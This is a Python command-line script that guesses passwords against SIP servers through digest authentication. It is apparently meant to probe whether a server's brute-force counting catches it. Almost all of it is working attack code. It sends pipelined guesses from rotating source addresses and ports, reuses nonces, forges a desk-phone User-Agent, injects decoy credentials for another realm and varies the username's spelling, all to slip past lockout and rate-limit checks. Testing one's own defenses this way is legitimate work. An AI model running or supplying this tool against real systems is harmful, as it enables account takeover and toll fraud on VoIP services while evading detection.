# SPDX-License-Identifier: GPL-2.0-or-later
"""Guesses passwords as svcrack does not: many guesses before the first answer, a port
for each, the user named in ways that a careless counter misses.

  guess.py SOURCE TARGET [options]

Prints one line of JSON: guesses sent, the status codes that came back to them, whether a guess
was right (answered by anything but 401, 403 or 407)."""
import argparse
import hashlib
import json
import random
import re
import select
import socket
import time

ap = argparse.ArgumentParser(usage=__doc__)
ap.add_argument("source", help="with %%d in it: another one for each guess, from 1 on")
ap.add_argument("target")
ap.add_argument("-m", "--method", default="REGISTER")
ap.add_argument("-n", "--count", type=int, default=40)
ap.add_argument("-u", "--user", default="1001", help="or several, 1001-1040: one after the other")
ap.add_argument("-p", "--password", help="the last guess")
ap.add_argument("--owner", help="user of From and To, when it is another one")
ap.add_argument("--ahead", type=int, default=1, help="guesses sent before any answer is read")
ap.add_argument("--ports", action="store_true", help="each guess from a port of its own")
ap.add_argument("--same", action="store_true", help="as if one request were repeated")
ap.add_argument("--reuse", action="store_true", help="one nonce for all")
ap.add_argument("--decoy", action="store_true", help="credentials for another realm come first")
ap.add_argument("--spell", default='username="%s"', help="how the user is written")
ap.add_argument("--tcp", action="store_true")
ap.add_argument("--wait", type=float, default=1, help="seconds for an answer")
ap.add_argument("--again", type=int, default=1, help="how often each guess is sent")
ap.add_argument("--pause", type=float, default=0, help="seconds between guesses")
a = ap.parse_args()

host = "[%s]" % a.target if ":" in a.target else a.target
family = socket.AF_INET6 if ":" in a.target else socket.AF_INET
first, _, last = a.user.partition("-")
users = [str(u) for u in range(int(first), int(last or first) + 1)]
run = random.getrandbits(32)
header = "Authorization" if a.method == "REGISTER" else "Proxy-Authorization"


def dial(i):
    s = socket.socket(family, socket.SOCK_STREAM if a.tcp else socket.SOCK_DGRAM)
    s.bind((a.source % (i + 1) if "%" in a.source else a.source, 0))
    s.connect((a.target, 5060))
    return s


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()


class Guess:
    def __init__(self, i, sock):
        self.i, self.sock, self.user = i, sock, users[i % len(users)]
        self.id = "%x-%d" % (run, 0 if a.same else i)
        self.uri = "sip:" + host if a.method == "REGISTER" else "sip:1051@" + host
        self.password = a.password if a.password and i == a.count - 1 else "%06d" % i

    def send(self, cseq, credentials=""):
        me = a.owner or self.user
        here = self.sock.getsockname()
        at = "%s:%d" % ("[%s]" % here[0] if ":" in here[0] else here[0], here[1])
        self.sock.send((
            f"{a.method} {self.uri} SIP/2.0\r\n"
            f"Via: SIP/2.0/{'TCP' if a.tcp else 'UDP'} {at};branch=z9hG4bK{self.id}-{cseq};rport\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:{me}@{host}>;tag={self.id}\r\n"
            f"To: <sip:{me if a.method == 'REGISTER' else '1051'}@{host}>\r\n"
            f"Call-ID: {self.id}\r\nCSeq: {cseq} {a.method}\r\n"
            f"Contact: <sip:{me}@{at}>\r\n{credentials}"
            "User-Agent: Acme Desk Phone 7.1\r\nContent-Length: 0\r\n\r\n").encode())

    def answer(self):
        if not select.select([self.sock], [], [], a.wait)[0]:
            return ""
        try:
            return self.sock.recv(65535).decode("latin-1")
        except OSError:
            return ""

    def challenged(self):
        """The server's nonce and realm, None when it does not answer."""
        self.send(1)
        text = self.answer()
        nonce = re.search('nonce="([^"]*)"', text)
        return nonce and (nonce[1], re.search('realm="([^"]*)"', text)[1])

    def guess(self, nonce, realm):
        name = (a.spell % self.user).rpartition("=")[2].strip(' "')
        got = md5(":".join((md5(":".join((name, realm, self.password))), nonce,
                            md5(a.method + ":" + self.uri))))
        line = (f'{header}: Digest {a.spell % self.user}, realm="{realm}", nonce="{nonce}", '
                f'uri="{self.uri}", response="{got}", algorithm=MD5\r\n')
        if a.decoy:
            line = line.replace(realm, "elsewhere").replace(self.user, "nobody") + line
        for _ in range(a.again):
            self.send(2, line)


def batch(start, sock, known):
    """As many guesses as may be under way at once; those that were sent."""
    ready = []
    for i in range(start, min(start + a.ahead, a.count)):
        g = Guess(i, dial(i) if a.ports or "%" in a.source else sock)
        if not a.reuse or not known:
            fresh = g.challenged()
            if not fresh:
                return ready, True
            known[:] = [fresh]
        ready.append((g, known[0]))
    for g, challenge in ready:
        g.guess(*challenge)
    return ready, False


sock, known, sent, answers, silent = dial(0), [], 0, {}, 0
while sent < a.count:
    ready, ended = batch(sent, sock, known)
    for g, _ in ready:
        status = re.findall(r"^SIP/2\.0 (\d+)", g.answer(), re.M)  # over TCP, several
        silent = 0 if status else silent + 1
        for s in status:
            answers[s] = answers.get(s, 0) + 1
        if silent > 3:
            break
    sent += len(ready)
    time.sleep(a.pause)
    if ended or silent > 3:
        break
print(json.dumps({"sent": sent, "answers": answers, "right": bool(set(answers) - {"401", "403", "407"})}))
